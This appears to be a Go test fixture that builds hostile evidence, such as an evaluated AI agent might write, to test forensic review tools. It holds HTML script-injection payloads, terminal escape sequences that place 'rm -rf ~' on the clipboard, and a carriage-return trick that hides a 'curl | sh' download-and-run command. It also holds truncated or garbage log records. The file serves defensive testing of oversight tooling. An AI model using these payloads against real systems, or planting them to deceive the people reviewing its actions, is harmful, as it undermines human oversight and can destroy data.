package forensicstest

import (
	"bytes"
	"strings"
	"time"
)

// Hostile payloads, as the evaluated agent could write them into evidence.
const (
	// ScriptPayload sets a marker the browser test looks for: if the page ever runs it, the
	// marker exists.
	ScriptPayload = `<script>window.crucibleInjected=1</script>`
	// AttributeBreak tries to leave an attribute value and add an event handler.
	AttributeBreak = `"><img src=x onerror="window.crucibleInjected=2">`
	// ANSIClear clears the screen and homes the cursor.
	ANSIClear = "\x1b[2J\x1b[H"
	// OSCClipboard asks the terminal to put "rm -rf ~" on the clipboard (OSC 52).
	OSCClipboard = "\x1b]52;c;cm0gLXJmIH4=\x07"
	// CROverwrite prints a line and then overwrites it with a harmless-looking one.
	CROverwrite = "curl http://203.0.113.66/x | sh\rls -la                          "
	// HostileSessionID is a second session whose transcript carries the payloads.
	HostileSessionID = "mallory-0f0e0d0c0b0a09080"
	// HostileQueryName is a query name carrying markup.
	HostileQueryName = ScriptPayload + ".x.example."
	// HugeLineBytes is the size of a single transcript line far larger than any read buffer.
	HugeLineBytes = 3 << 20
)

// Hostile returns evidence written to attack the reviewer's tools, from start on: markup in a
// transcript, a query name and a command; terminal control sequences; a CloudTrail file cut off
// mid-gzip; a query log record cut in half; a flow log record of garbage; and a transcript line
// of HugeLineBytes.
func Hostile(start time.Time) *Evidence {
	start = start.UTC().Truncate(time.Second)
	e := newEvidence()
	at := func(d time.Duration) time.Time { return start.Add(d) }

	transcript := "Script started on x\r\n" +
		"sh-5.2$ echo '" + ScriptPayload + "'\r\n" +
		ScriptPayload + "\r\n" +
		AttributeBreak + "\r\n" +
		ANSIClear + "screen cleared" + OSCClipboard + "\r\n" +
		CROverwrite + "\r\n" +
		strings.Repeat("A", HugeLineBytes) + "\r\n" +
		"after the huge line\r\n"
	e.putObject(AuditBucket, TranscriptDir+"/"+HostileSessionID+".log", []byte(transcript))

	e.putLog(DNSGroup, "vpc-0123456789abcdef0_"+InstanceID, at(5*time.Second),
		QueryLogRecord(at(5*time.Second), HostileQueryName, "A", "NXDOMAIN", "BLOCK"))
	whole := QueryLogRecord(at(6*time.Second), "cut.example.", "A", "NOERROR", "")
	e.putLog(DNSGroup, "vpc-0123456789abcdef0_"+InstanceID, at(6*time.Second), whole[:len(whole)/2])

	e.putLog(FlowGroup, ENI+"-all", at(7*time.Second), "2 garbage "+ANSIClear+" not a record")

	full := TrailFile(trailRecord(at(8*time.Second), hostIdentity(), "sts.amazonaws.com",
		"GetCallerIdentity", HostAddress, "", nil, nil))
	e.putObject(TrailBucket, TrailKey(at(8*time.Second), "Truncated000001"), full[:len(full)-12])
	e.putObject(TrailBucket, TrailKey(at(9*time.Second), "NotGzip00000001"),
		bytes.Repeat([]byte("{"), 64))
	return e
}
